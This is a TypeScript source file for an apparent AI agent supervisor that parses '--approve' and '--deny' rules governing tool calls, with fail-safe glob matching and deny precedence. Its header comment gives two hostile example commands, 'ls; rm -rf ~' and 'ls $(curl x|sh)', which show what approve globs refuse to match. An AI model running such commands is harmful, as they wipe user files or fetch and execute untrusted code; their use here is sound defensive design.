// Command-line approval rules: `--approve RULE` and `--deny RULE`, each repeatable.
//
//   RULE := TOOL                   the tool named exactly TOOL, any action     --approve terminal
//         | TOOL:GLOB              that tool when GLOB matches the whole        --approve 'terminal:ls *'
//                                  action summary (for terminal: the command line)
//         | capability:PATTERN     any tool whose required capability PATTERN   --approve capability:mcp.call:github
//                                  covers (grant syntax, trailing wildcard ok)  --deny capability:fs.*
//   TOOL  := [A-Za-z0-9_.-]+ ("capability" followed by ':' always means a capability rule)
//   GLOB  := '*' any run of characters, '?' one character, '\x' the character x; all else literal.
//
// Asymmetry on purpose, because a rule that matches too much must fail safe:
//   - in --approve, '*' and '?' never match a shell-control or control character
//     (; & | < > ` $ ( ) { } \ newline, other C0/C1 controls, U+2028/2029), so
//     'terminal:ls *' approves 'ls -la src' but not 'ls; rm -rf ~' or 'ls $(curl x|sh)'; write
//     such characters literally in the glob to approve them. In --deny they match anything.
//   - a capability PATTERN in --approve never approves a secret capability by wildcard (exact
//     grant rule); in --deny a wildcard pattern covers secrets too.
// Precedence: a matching --deny wins over any --approve, and it applies whatever the policy
// ('auto' included, via the broker's veto step). --approve only answers 'prompt': it can never
// override a 'deny' policy. Rule decisions are not cached (they are re-evaluated on every call).
import { type ApprovalDecision, approvalDecision } from './approval-decision.js';
import { type ApprovalRequest, type Approver, NonInteractiveApprover } from './approval-broker.js';
import { type Capability, capabilityCovers, grantAllows, parseCapability } from './capability.js';
import { ApprovalRuleError, CapabilitySyntaxError } from './errors.js';
import { checkedApprovalRule, type RuleVocabulary } from './rule-vocabulary.js';

export type RuleVerdict = 'approve' | 'deny';
export type RuleSubject = Pick<ApprovalRequest, 'toolName' | 'capability' | 'actionSummary'>;

export interface ApprovalRule {
  readonly verdict: RuleVerdict;
  /** The rule as given on the command line. */
  readonly text: string;
  /** The tool a TOOL or TOOL:GLOB rule names (matched exactly, case included). */
  readonly toolName?: string;
  /** The pattern of a capability:PATTERN rule. */
  readonly capabilityPattern?: Capability;
  matches(subject: RuleSubject): boolean;
}

const TOOL_NAME = /^[A-Za-z0-9_.-]+$/;
const MAX_RULE = 1000;
/** Characters an --approve wildcard never stands for (see the header). */
function shellSafe(c: string): boolean {
  const u = c.codePointAt(0)!;
  return !(';&|<>`$(){}\\'.includes(c) || u <= 0x1f || (u >= 0x7f && u <= 0x9f) || u === 0x2028 || u === 0x2029);
}

function flagOf(verdict: RuleVerdict): string {
  return verdict === 'approve' ? '--approve' : '--deny';
}

type GlobToken = { kind: 'literal'; char: string } | { kind: 'one' } | { kind: 'run' };

/**
 * A glob as a matcher that runs in time linear in the text (times the glob's length): the glob's
 * positions are the states of an automaton stepped once per character of the text. A regular
 * expression of several '*' runs backtracks: 'terminal:*a*a*a*a*b' against a model's 2,000-character
 * command held the event loop for minutes.
 */
function globMatcher(glob: string, verdict: RuleVerdict, fail: (reason: string, fix: string) => never): (text: string) => boolean {
  const tokens: GlobToken[] = [];
  const chars = [...glob];
  for (let i = 0; i < chars.length; i++) {
    const c = chars[i]!;
    if (c === '\\') {
      i++;
      if (i >= chars.length) fail('the glob ends in a lone backslash', "escape it as '\\\\' or remove it");
      tokens.push({ kind: 'literal', char: chars[i]! });
    } else if (c === '*') {
      if (tokens.at(-1)?.kind !== 'run') tokens.push({ kind: 'run' }); // '**' is '*'
    } else if (c === '?') tokens.push({ kind: 'one' });
    else tokens.push({ kind: 'literal', char: c });
  }
  const wildcard = verdict === 'approve' ? shellSafe : () => true;
  const n = tokens.length;
  /** Adds state i and, across '*' (which may match nothing), the states after it. */
  const enter = (set: Uint8Array, i: number): void => {
    for (; i <= n && set[i] === 0; i++) {
      set[i] = 1;
      if (i === n || tokens[i]!.kind !== 'run') return;
    }
  };
  return (text: string): boolean => {
    let now = new Uint8Array(n + 1);
    enter(now, 0);
    for (const c of text) {
      const next = new Uint8Array(n + 1);
      let any = false;
      for (let i = 0; i < n; i++) {
        if (now[i] === 0) continue;
        const t = tokens[i]!;
        if (t.kind === 'run' ? wildcard(c) : t.kind === 'one' ? wildcard(c) : t.char === c) {
          if (t.kind === 'run') enter(next, i);
          else enter(next, i + 1);
          any = true;
        }
      }
      if (!any) return false;
      now = next;
    }
    return now[n] === 1;
  };
}

export function parseApprovalRule(text: string, verdict: RuleVerdict): ApprovalRule {
  const flag = flagOf(verdict);
  const fail = (reason: string, fix: string): never => {
    throw new ApprovalRuleError(flag, String(text), reason, fix);
  };
  if (typeof text !== 'string' || text.trim() === '') fail('it is empty', `name a tool (${flag} terminal), a tool and a glob (${flag} 'terminal:ls *') or a capability (${flag} capability:terminal.exec)`);
  if (text.length > MAX_RULE) fail(`it is longer than ${MAX_RULE} characters`, 'use a shorter glob');
  const colon = text.indexOf(':');
  const head = colon < 0 ? text : text.slice(0, colon);
  const rest = colon < 0 ? undefined : text.slice(colon + 1);

  if (head === 'capability' && rest !== undefined) {
    let pattern: Capability;
    try {
      pattern = parseCapability(rest, 'grant');
    } catch (err) {
      const why = err instanceof CapabilitySyntaxError ? `${err.reason} (fix: ${err.fix})` : String(err);
      return fail(`the capability pattern is invalid: ${why}`, `write a capability in grant syntax, e.g. ${flag} capability:mcp.call:github`);
    }
    const matches = (s: RuleSubject): boolean => {
      let required: Capability;
      try {
        required = parseCapability(s.capability, 'requirement');
      } catch {
        return verdict === 'deny'; // an unparsable capability: a deny rule matches, an approve rule does not
      }
      return verdict === 'approve' ? grantAllows(pattern, required) : capabilityCovers(pattern, required);
    };
    return Object.freeze({ verdict, text, capabilityPattern: pattern, matches });
  }

  if (!TOOL_NAME.test(head)) {
    fail(`tool name ${JSON.stringify(head)} is not [A-Za-z0-9_.-]+`, `use the tool's name as the catalog shows it (supervisor catalog <core>), e.g. ${flag} terminal`);
  }
  if (rest === undefined) return Object.freeze({ verdict, text, toolName: head, matches: (s: RuleSubject) => s.toolName === head });
  if (rest === '') fail("the glob after ':' is empty", `drop the ':' to match every action of ${head}, or write a glob, e.g. '${head}:ls *'`);
  const glob = globMatcher(rest, verdict, fail);
  return Object.freeze({
    verdict,
    text,
    toolName: head,
    matches: (s: RuleSubject) => s.toolName === head && typeof s.actionSummary === 'string' && glob(s.actionSummary),
  });
}

/** The parsed --approve and --deny rules of one command line. */
export class ApprovalRules {
  readonly approve: readonly ApprovalRule[];
  readonly deny: readonly ApprovalRule[];

  private constructor(approve: ApprovalRule[], deny: ApprovalRule[]) {
    this.approve = Object.freeze(approve);
    this.deny = Object.freeze(deny);
    Object.freeze(this);
  }

  /**
   * Parses the rules; with a vocabulary (what the catalog holds), a rule that can never match is
   * refused too, naming the closest valid spelling (rule-vocabulary.ts).
   */
  static parse(lists: { approve?: readonly string[]; deny?: readonly string[] } = {}, vocabulary?: RuleVocabulary): ApprovalRules {
    const one = (verdict: RuleVerdict) => (r: string) => (vocabulary ? checkedApprovalRule(r, verdict, vocabulary) : parseApprovalRule(r, verdict));
    return new ApprovalRules((lists.approve ?? []).map(one('approve')), (lists.deny ?? []).map(one('deny')));
  }

  /** Every rule, deny rules first. */
  get all(): readonly ApprovalRule[] {
    return [...this.deny, ...this.approve];
  }

  get isEmpty(): boolean {
    return this.approve.length === 0 && this.deny.length === 0;
  }

  /** The first matching --deny rule. */
  denial(subject: RuleSubject): ApprovalRule | undefined {
    return this.deny.find((r) => r.matches(subject));
  }

  /** The first matching --approve rule (callers check denial first). */
  approval(subject: RuleSubject): ApprovalRule | undefined {
    return this.approve.find((r) => r.matches(subject));
  }
}

/** Answers from the rules; asks `fallback` (default: the non-interactive denial) when none match. */
export class RuleApprover implements Approver {
  constructor(
    private readonly rules: ApprovalRules,
    private readonly fallback: Approver = new NonInteractiveApprover(),
  ) {}

  veto(request: ApprovalRequest): ApprovalDecision | undefined {
    const rule = this.rules.denial(request);
    if (rule !== undefined) return approvalDecision(false, 'rule', `denied by --deny ${quote(rule.text)}`);
    return this.fallback.veto?.(request);
  }

  async decide(request: ApprovalRequest, signal?: AbortSignal): Promise<ApprovalDecision> {
    const vetoed = this.veto(request);
    if (vetoed !== undefined) return vetoed;
    const rule = this.rules.approval(request);
    if (rule !== undefined) return approvalDecision(true, 'rule', `approved by --approve ${quote(rule.text)}`);
    return this.fallback.decide(request, signal);
  }
}

function quote(s: string): string {
  return /^[A-Za-z0-9_.:-]+$/.test(s) ? s : `'${s.replace(/'/g, "'\\''")}'`;
}
